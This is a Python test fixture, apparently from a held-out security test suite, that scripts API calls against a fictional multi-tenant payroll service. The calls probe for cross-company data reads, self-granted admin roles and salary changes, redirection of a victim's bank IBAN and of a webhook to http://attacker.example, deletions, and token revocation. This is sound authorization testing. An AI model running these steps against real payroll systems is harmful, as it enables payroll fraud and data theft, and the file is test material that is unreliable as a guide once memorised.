"""What can an attacker with a pencil do to the payroll, step by step?

`v` is the payroll admin of Acme, and everybody else is at Globex: `a` its payroll admin, `m` its
manager, `l` Greg and `c` Gwen, who are employees. `n` is nobody.
"""

from __future__ import annotations

from typing import Any

from tests.targets.heldout_attacks import Step, step
from tests.targets.heldout_payroll_target import ACME, PEOPLE

EMAILS = {name: (f"{name}@{company}.example", password) for company, _, name, password in PEOPLE}
GUS, GREG, GWEN = 1005, 1006, 1007


def call(who: str, name: str, keep: str = "", /, headers: Any = None, **body: Any) -> Step:
    return step(who, f"POST /api/{name}", body, keep, headers)


def entry(name: str, keep: str) -> Step:
    email, password = EMAILS[name]
    return call("n", "auth.signin", keep, email=email, password=password)


OTHER = {"Authorization": "Bearer {other}"}
PAYROLL = [
    entry("olivia", "v=access_token"),
    entry("gina", "a=access_token"),
    entry("gus", "m=access_token"),
    entry("greg", "l=access_token"),
    entry("gwen", "c=access_token"),
    call("v", "employees.create", "ve=employee_id", name="victim's clerk", email="v@v.example"),
    call("v", "bank.set", employee_id="{ve}", iban="victim's"),
    call("v", "payruns.create", "vr=payrun_id", period="2026-11", note="victim's"),
    call("v", "payslips.issue", "vs=payslip_id", payrun_id="{vr}", employee_id="{ve}", gross=5000),
    call("v", "timesheets.create", "vt=timesheet_id", week="2026-W40", hours=9, note="victim's"),
    call("v", "expenses.create", "vx=expense_id", title="victim's", amount=7),
    call("v", "expenses.create", title="victim's second", amount=8),
    call("v", "expenses.list", "cursor=next_page_token", limit=1),
    call("v", "comments.add", "vc=comment_id", expense_id="{vx}", text="victim's"),
    call("v", "attachments.add", "va=attachment_id", expense_id="{vx}", filename="victim's"),
    call("v", "exports.start", "vj=export_id"),
    call("v", "webhooks.create", "vw=webhook_id", url="http://victim.example"),
    call("v", "payslips.share", "vl=share_token", payslip_id="{vs}"),
    call("a", "payruns.create", "ar=payrun_id", period="2026-11"),
    call("a", "payslips.issue", "cs=payslip_id", payrun_id="{ar}", employee_id=GWEN, gross=4000),
    call("c", "timesheets.create", "ct=timesheet_id", week="2026-W40", hours=8),
    call("c", "expenses.create", "cx=expense_id", title="colleague's", amount=5),
    call("m", "comments.add", "mc=comment_id", expense_id="{cx}", text="manager's"),
    call("a", "expenses.create", "ax=expense_id", title="attacker's", amount=1),
    # What others may see and change within the company.
    call("m", "payslips.get", payslip_id="{cs}"),
    call("l", "payslips.get", payslip_id="{cs}"),
    call("l", "timesheets.list", employee_id=GWEN),
    call("l", "expenses.get", expense_id="{cx}"),
    call("l", "employees.list"),
    call("l", "bank.get", employee_id=GWEN),
    call("m", "bank.get", employee_id=GWEN),
    call("l", "bank.set", employee_id=GWEN, iban="attacker's"),
    call("c", "comments.update", comment_id="{mc}", text="changed"),
    # What another company shows.
    call("a", "payslips.get", payslip_id="{vs}"),
    call("a", "employees.get", employee_id="{ve}"),
    call("a", "bank.get", employee_id="{ve}"),
    call("a", "expenses.get", expense_id="{vx}"),
    call("a", "timesheets.get", timesheet_id="{vt}"),
    call("a", "payruns.get", payrun_id="{vr}"),
    call("a", "comments.list", expense_id="{vx}"),
    call("a", "attachments.list", expense_id="{vx}"),
    call("a", "attachments.get", expense_id="{vx}", attachment_id="{va}"),
    call("a", "attachments.get", expense_id="{ax}", attachment_id="{va}"),
    call("a", "employees.bulkGet", employee_ids=["{ve}", GREG]),
    call("a", "employees.list"),
    call("a", "employees.list", company_id=ACME),
    call("a", "employees.list", headers={"X-Company-Id": ACME}),
    call("a", "expenses.list"),
    call("a", "expenses.list", page_token="{cursor}"),
    call("a", "payslips.list", payrun_id="{vr}"),
    call("a", "payslips.list", employee_id="{ve}"),
    call("a", "payruns.list"),
    call("a", "webhooks.list"),
    call("a", "exports.list"),
    call("a", "employees.search", q="victim"),
    call("a", "expenses.search", q="victim"),
    call("a", "dashboard.get"),
    call("a", "exports.status", export_id="{vj}"),
    call("a", "exports.link", export_id="{vj}"),
    call("a", "payslips.share", payslip_id="{vs}"),
    call("a", "payslips.unshare", payslip_id="{vs}", share_token="{vl}"),
    # What one may not do oneself.
    call("l", "payruns.list"),
    call("l", "exports.start"),
    call("l", "webhooks.list"),
    call("m", "employees.create", name="manager's friend", email="f@f.example"),
    call("l", "expenses.create", "lx=expense_id", title="mine", amount=9, status="approved"),
    call("l", "expenses.approve", expense_id="{lx}"),
    call("m", "employees.update", employee_id=GUS, salary=9000),
    call("l", "me.update", name="Greg", role="payroll_admin"),
    call("l", "me.update", name="Greg", salary=9000),
    call("a", "companies.update", name="Globex", plan="enterprise"),
    # What is written where it does not belong.
    call("a", "employees.create", name="planted", email="p@p.example", company_id=ACME),
    call("a", "payslips.issue", payrun_id="{ar}", employee_id="{ve}", gross=1),
    call("a", "payslips.issue", payrun_id="{vr}", employee_id=GREG, gross=1),
    call("a", "employees.setManager", employee_id=GREG, manager_id="{ve}"),
    call("a", "employees.setManager", employee_id="{ve}", manager_id=GUS),
    call("a", "comments.add", expense_id="{vx}", text="attacker's"),
    call("a", "attachments.add", expense_id="{vx}", filename="attacker's"),
    call("a", "expenses.update", expense_id="{vx}", title="changed"),
    call("a", "employees.update", employee_id="{ve}", title="changed"),
    call("a", "employees.bulkUpdate", employee_ids=[GREG, "{ve}"], title="changed"),
    call("a", "bank.set", employee_id="{ve}", iban="attacker's"),
    call("a", "webhooks.update", webhook_id="{vw}", url="http://attacker.example"),
    call("a", "comments.update", comment_id="{vc}", text="changed"),
    call("a", "timesheets.update", timesheet_id="{vt}", hours=1),
    call("a", "timesheets.approve", timesheet_id="{vt}"),
    call("m", "timesheets.bulkApprove", timesheet_ids=["{ct}", "{vt}"]),
    call("a", "payruns.approve", payrun_id="{vr}"),
    call("a", "expenses.approve", expense_id="{vx}"),
    # What is ended.
    call("a", "payruns.delete", payrun_id="{vr}"),
    call("a", "comments.delete", comment_id="{vc}"),
    call("a", "attachments.delete", attachment_id="{va}"),
    call("a", "expenses.delete", expense_id="{vx}"),
    call("a", "webhooks.delete", webhook_id="{vw}"),
    call("v", "webhooks.list"),
    call("a", "employees.deactivate", employee_id="{ve}"),
    call("c", "payslips.share", "cl=share_token", payslip_id="{cs}"),
    call("c", "payslips.unshare", payslip_id="{cs}", share_token="{cl}"),
    step("n", "GET /s/{share_token}", share_token="{cl}"),
    call("a", "employees.deactivate", employee_id=GWEN),
    call("c", "auth.test"),
    entry("greg", "other=access_token first=refresh_token"),
    call("n", "auth.refresh", "second=refresh_token", refresh_token="{first}"),
    call("n", "auth.refresh", refresh_token="{first}"),
    call("l", "auth.signout", headers=OTHER),
    call("n", "auth.refresh", refresh_token="{second}"),
    call("l", "auth.test", headers=OTHER),
    entry("greg", "other=access_token"),
    call("l", "auth.changePassword", current_password=EMAILS["greg"][1], new_password="changed"),
    call("l", "auth.test", headers=OTHER),
    call("l", "auth.test"),
]
# Where the attacker's own words come back.
ECHOES = {"POST /api/employees.search", "POST /api/expenses.search"}
# What is answered with ok for somebody else's ids too: without effect, or with the caller's alone.
HARMLESS = {
    "POST /api/employees.bulkGet",
    "POST /api/payslips.list",
    "POST /api/timesheets.list",
    "POST /api/timesheets.bulkApprove",
    "POST /api/webhooks.delete",
}
